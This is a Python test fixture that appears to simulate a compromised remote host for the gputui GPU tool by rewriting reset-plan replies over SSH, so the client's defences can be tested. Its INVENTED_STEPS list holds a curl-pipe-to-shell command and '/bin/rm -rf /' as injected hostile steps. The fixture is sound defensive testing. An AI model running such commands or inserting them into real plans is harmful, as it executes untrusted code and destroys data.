"""A host whose collector is not gputui's: sshd's ``ForceCommand`` runs it in place of what the client asked.

It runs the real command the client sent (``SSH_ORIGINAL_COMMAND``: the shipped collector) and sits between it
and the client, passing every byte through, except the answers ``HOSTILE_MODE`` names, which it rewrites the
way a compromised or foreign host could: a reset plan with steps gputui never plans, for a GPU that was not
asked, or nested a thousand deep. The client cannot tell it from a collector that wrote those answers itself.

Standard library only; one process per SSH session, gone when the session is.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from typing import Any

MODE_VAR = "HOSTILE_MODE"
GPU0_UUID = "GPU-00000000-0000-0000-0000-000000000000"

INVENTED_STEPS = [
    {"kind": "reset", "argv": ["sh", "-c", "curl -s http://127.0.0.1:9/x | sh"], "timeout_s": 60},
    {"kind": "reset", "argv": ["/bin/rm", "-rf", "/"], "timeout_s": 60},
]


def _nested(depth: int) -> Any:
    value: Any = "deep"
    for _ in range(depth):
        value = [value]
    return value


def rewrite(mode: str, command: str, message: dict[str, Any]) -> dict[str, Any]:
    """The answer to ``command`` as the hostile host sends it."""
    result = message.get("result")
    if not isinstance(result, dict) or not isinstance(result.get("plan"), dict):
        return message
    plan = result["plan"]
    if command == "reset_plan" and mode == "invented_steps":
        plan["steps"] = [*INVENTED_STEPS, *plan["steps"]]
        plan["verdict"] = "go"
        plan["blockers"] = []
    elif command == "reset_plan" and mode == "other_gpu":
        # The plan of GPU 0 whatever was asked: its own steps, self-consistent.
        plan["gpus"] = [
            dict(g, index=0, uuid="GPU-00000000-0000-0000-0000-000000000000") for g in plan["gpus"]
        ]
        for step in plan["steps"]:
            step["argv"] = [
                "GPU-00000000-0000-0000-0000-000000000000" if a.startswith("GPU-") else a
                for a in step["argv"]
            ]
        plan["verdict"] = "go"
        plan["blockers"] = []
    elif command == "reset_plan" and mode == "deep":
        plan["notes"] = [_nested(950)]
    return message


def main() -> int:
    mode = os.environ.get(MODE_VAR, "")
    original = os.environ.get("SSH_ORIGINAL_COMMAND") or "true"
    child = subprocess.Popen(["/bin/sh", "-c", original], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    assert child.stdin is not None
    assert child.stdout is not None
    asked: dict[Any, str] = {}

    def upstream() -> None:
        """The client's bytes to the collector, unchanged; the JSON commands among them noted by id."""
        pending = b""
        while True:
            data = os.read(0, 65536)
            if not data:
                break
            pending += data
            *lines, pending = pending.split(b"\n")
            pending = pending[-65536:]
            for line in lines:
                # A command may follow the bundle's last bytes on the same line.
                start = line.find(b'{"')
                if start < 0:
                    continue
                try:
                    command = json.loads(line[start:])
                except ValueError:
                    continue
                if isinstance(command, dict) and "id" in command:
                    asked[command["id"]] = str(command.get("cmd"))
            # Noted before it is passed on: the answer cannot overtake its command.
            child.stdin.write(data)  # type: ignore[union-attr]
            child.stdin.flush()  # type: ignore[union-attr]
        child.stdin.close()  # type: ignore[union-attr]

    threading.Thread(target=upstream, daemon=True).start()
    out = sys.stdout.buffer
    for line in iter(child.stdout.readline, b""):
        try:
            message = json.loads(line)
        except ValueError:
            out.write(line)
            out.flush()
            continue
        if isinstance(message, dict) and message.get("t") == "reply" and message.get("id") in asked:
            message = rewrite(mode, asked[message["id"]], message)
            line = (json.dumps(message) + "\n").encode()
        out.write(line)
        out.flush()
    return child.wait()


if __name__ == "__main__":
    sys.exit(main())
